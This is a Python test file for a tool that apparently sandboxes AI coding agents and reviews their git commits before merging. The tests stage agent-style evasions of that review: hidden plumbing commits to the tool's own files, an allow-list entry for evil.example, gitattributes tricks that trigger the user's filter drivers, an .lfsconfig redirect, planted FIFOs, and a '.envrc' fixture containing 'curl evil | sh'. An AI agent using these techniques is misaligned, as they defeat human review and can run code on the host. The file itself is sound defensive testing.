"""What lands is what was reviewed: merge-up refuses chtop's own files and attributes that run your
drivers, read from the landing's trees with git's own plumbing, and host status and review read the
agent's commits as git applies them.

The agent's store is the agent's: each attack here writes, with plain git from the host side, the
same objects and index flags an agent can write from inside its sandbox (its private store is
read-write there); ``test_landing_sandbox.py`` runs them from inside a real one.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from conftest import git


def plumbing_commit(checkout: Path, files: dict[str, bytes], message: str, *, keep_index: bool = True,
                    skip_worktree: bool = True) -> str:
    """What the agent can do with its store alone: ``files`` written as blobs, a commit of them on
    top of HEAD made with a scratch index, the branch moved to it; the checkout's files are left
    as they were.  ``keep_index``: the real index then says the new blobs, each flagged
    ``skip-worktree`` (``skip_worktree``), so ``git status`` there has nothing to say."""
    scratch = checkout / ".." / f".scratch-index-{os.getpid()}"
    env = dict(os.environ, GIT_INDEX_FILE=str(scratch.resolve()))
    run = lambda *args, **kw: subprocess.run(["git", *args], cwd=checkout, capture_output=True,  # noqa: E731
                                             check=True, **kw).stdout.decode().strip()
    run("read-tree", "HEAD", env=env)
    for path, data in files.items():
        blob = run("hash-object", "-w", "--stdin", input=data)
        run("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}", env=env)
        if keep_index:
            run("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
            if skip_worktree:
                run("update-index", "--skip-worktree", path)
    tree = run("write-tree", env=env)
    os.unlink(scratch.resolve())
    commit = run("commit-tree", tree, "-p", "HEAD", "-m", message)
    run("update-ref", "HEAD", commit)
    return commit


def tasks_py_with(checkout: Path, line: str) -> bytes:
    return (checkout / "tasks.py").read_bytes() + line.encode() + b"\n"


# -- chtop's own files ---------------------------------------------------------------------------


def test_merge_up_refuses_a_commit_to_chtops_own_files_made_with_plumbing(with_dev):
    """The commit the checkout's pin never saw: tasks.py changed in the store alone, the index
    flagged skip-worktree.  Status says so, merge-up refuses naming the paths and lands nothing;
    --allow-self-edit for this landing lands it."""
    g = with_dev
    dev = g.path("dev")
    evil = plumbing_commit(dev, {"tasks.py": tasks_py_with(dev, "print('agent line')"),
                                 "sandbox/net-allow.txt": b"evil.example\n"}, "harmless")
    status = g.inv(dev, "git.status", check=False)
    assert "tasks.py" in status.stdout + status.stderr, status.stdout + status.stderr
    assert "skip-worktree" in status.stdout + status.stderr
    top_before = git(g.toplevel, "rev-parse", "main")
    merge = g.inv(dev, "git.merge-up", check=False)
    assert merge.returncode == 3, merge.stdout + merge.stderr
    assert "tasks.py" in merge.stderr and "sandbox/net-allow.txt" in merge.stderr, merge.stderr
    assert "--allow-self-edit" in merge.stderr
    assert git(g.toplevel, "rev-parse", "main") == top_before
    assert b"agent line" not in (g.toplevel / "tasks.py").read_bytes()
    review = g.inv(dev, "git.diff", "--integration", check=False)
    assert "chtop's own files" in review.stdout and "tasks.py" in review.stdout, review.stdout
    g.inv(dev, "git.merge-up", "--allow-self-edit")
    assert git(g.toplevel, "rev-parse", "main") == evil


def test_merge_up_refuses_a_pinned_path_in_a_sub_repo_whatever_the_flag(with_dev):
    """A repo's ``.envrc`` is pinned in every checkout (with --allow-self-edit too): a commit of
    one through the store lands nowhere."""
    g = with_dev
    alpha = g.path("dev", "alpha")
    plumbing_commit(alpha, {".envrc": b"curl evil | sh\n"}, "envrc")
    merge = g.inv(g.path("dev"), "git.merge-up", check=False)
    assert merge.returncode == 3 and ".envrc" in merge.stderr, merge.stdout + merge.stderr
    # a flag for chtop's own code does not open what the host runs from every checkout
    merge = g.inv(g.path("dev"), "git.merge-up", "--allow-self-edit", check=False)
    assert merge.returncode == 3 and ".envrc" in merge.stderr, merge.stdout + merge.stderr


# -- attributes, read as git applies them ----------------------------------------------------------


def configure_filter(home: Path, mark: Path, name: str = "x") -> None:
    """A filter driver in the user's git config whose smudge leaves ``mark`` when it runs."""
    with open(home / ".gitconfig", "a") as fh:
        fh.write(f'[filter "{name}"]\n\tsmudge = touch {mark}; cat\n\tclean = cat\n')


def assert_refused_unrun(g, merge, mark: Path, *words: str) -> None:
    assert merge.returncode == 3, merge.stdout + merge.stderr
    for word in words:
        assert word in merge.stderr, merge.stderr
    assert git(g.toplevel / "alpha", "rev-parse", "main") == git(g.toplevel / "alpha", "rev-parse", "origin/main")
    assert not mark.exists()


def test_an_attribute_file_git_reads_past_a_nul_cannot_route_files_through_your_filter(with_dev):
    """A NUL makes ``git diff`` say "Binary files differ" (no lines to read), yet git's attribute
    parser still applies the lines before it."""
    g = with_dev
    mark = g.base / "smudge-ran"
    configure_filter(Path(os.environ["HOME"]), mark)
    plumbing_commit(g.path("dev", "alpha"), {".gitattributes": b"*.txt filter=x\n\0\n", "new.txt": b"data\n"},
                    "attributes")
    assert_refused_unrun(g, g.inv(g.path("dev"), "git.merge-up", check=False), mark, ".gitattributes")
    # the control: by hand, git applies the line before the NUL
    git(g.toplevel / "alpha", "merge", "-q", "--ff-only", "dev")
    assert mark.exists()


def test_an_attribute_line_that_reads_as_a_diff_header_cannot_route_files_through_your_filter(with_dev):
    """``++ filter=x`` in the file is ``+++ filter=x`` in the diff: a header to a reader of its
    ``+`` lines, an attribute of the file ``++`` to git."""
    g = with_dev
    mark = g.base / "smudge-ran"
    configure_filter(Path(os.environ["HOME"]), mark)
    plumbing_commit(g.path("dev", "alpha"), {".gitattributes": b"++ filter=x\n", "++": b"data\n"}, "attributes")
    assert_refused_unrun(g, g.inv(g.path("dev"), "git.merge-up", check=False), mark, "++", "filter=x")


def test_a_macro_that_names_your_filter_is_refused_and_a_cr_too(with_dev):
    g = with_dev
    mark = g.base / "smudge-ran"
    configure_filter(Path(os.environ["HOME"]), mark)
    alpha = g.path("dev", "alpha")
    plumbing_commit(alpha, {".gitattributes": b"[attr]harmless filter=x\nsub/*.txt harmless\n",
                            "sub/new.txt": b"data\n"}, "macro")
    assert_refused_unrun(g, g.inv(g.path("dev"), "git.merge-up", check=False), mark, "sub/new.txt", "filter=x")
    git(alpha, "reset", "-q", "--hard", "origin/main")
    plumbing_commit(alpha, {".gitattributes": b"*.md text\r\n"}, "crlf")
    assert_refused_unrun(g, g.inv(g.path("dev"), "git.merge-up", check=False), mark, ".gitattributes", "CR")


def test_an_lfsconfig_change_is_refused_while_git_lfs_is_configured(with_dev):
    g = with_dev
    mark = g.base / "smudge-ran"
    alpha = g.path("dev", "alpha")
    plumbing_commit(alpha, {".lfsconfig": b"[lfs]\n\turl = https://agent.example/lfs\n"}, "lfs")
    assert g.inv(g.path("dev"), "git.merge-up", "--dry-run", check=False).returncode == 0
    configure_filter(Path(os.environ["HOME"]), mark, "lfs")
    assert_refused_unrun(g, g.inv(g.path("dev"), "git.merge-up", check=False), mark, ".lfsconfig", "git-lfs")


# -- files the agent plants where host git opens one by name -------------------------------------


def test_a_fifo_where_git_opens_a_file_by_name_is_refused_and_a_deeper_one_costs_one_worktree(with_dev):
    """``alpha/.gitignore`` a FIFO (untracked, shown nowhere): the worktree's status refuses by
    name with the rm to type; one deeper (``alpha/sub/.gitignore``, which the check does not
    reach) fails that worktree's line of the list, and the others are listed."""
    from chtop_tasks.workspace.layout import find_workspace
    from chtop_tasks.workspace.worktrees import create_worktree

    g = with_dev
    create_worktree(find_workspace(g.toplevel), "other")
    top_fifo = g.path("dev", "alpha", ".gitignore")
    os.mkfifo(top_fifo)
    status = g.inv(g.path("dev"), "git.status", check=False, timeout=120)
    assert status.returncode != 0 and f"rm {top_fifo}" in status.stderr, status.stdout + status.stderr
    listed = g.inv(g.toplevel, "worktree.list", check=False, timeout=120)
    assert f"rm {top_fifo}" in listed.stdout + listed.stderr and "other  (" in listed.stdout, listed.stdout
    top_fifo.unlink()
    (g.path("dev", "alpha", "sub")).mkdir()
    os.mkfifo(g.path("dev", "alpha", "sub", ".gitignore"))
    listed = g.inv(g.toplevel, "worktree.list", check=False, timeout=120)
    assert "timed out" in listed.stdout and "other  (" in listed.stdout, listed.stdout + listed.stderr
    assert "clean" in listed.stdout.split("other  (")[1]


# -- the review shows content, whatever the agent's attributes say ------------------------------


def test_the_review_shows_content_that_the_agents_attributes_call_binary(with_dev):
    """``*.txt -diff`` and ``.gitattributes -diff`` committed: git's own diff says only "Binary
    files differ"; the review (``git.diff --integration``, the dashboard's diff pane) shows the
    lines, control characters made visible, and calls out the attribute change."""
    from chtop_tasks.dash import model
    from chtop_tasks.workspace.layout import find_workspace

    g = with_dev
    alpha = g.path("dev", "alpha")
    (alpha / ".gitattributes").write_text("*.txt -diff\n.gitattributes -diff\n")
    (alpha / "alpha.txt").write_text("line 1\nevil line \x1b[2J\n")
    git(alpha, "add", "-A")
    git(alpha, "commit", "-q", "-m", "quiet change")
    assert "Binary files" in git(alpha, "diff", "--merge-base", "main")       # the control
    review = g.inv(g.path("dev"), "git.diff", "--integration").stdout
    assert "+evil line ^[[2J" in review and "Binary files" not in review, review
    assert "!! " in review and ".gitattributes" in review.split("evil line")[0], review
    pane = model.worktree_diff(find_workspace(g.path("dev")), full=True)
    assert "+evil line" in pane and "Binary files" not in pane and "!! " in pane, pane
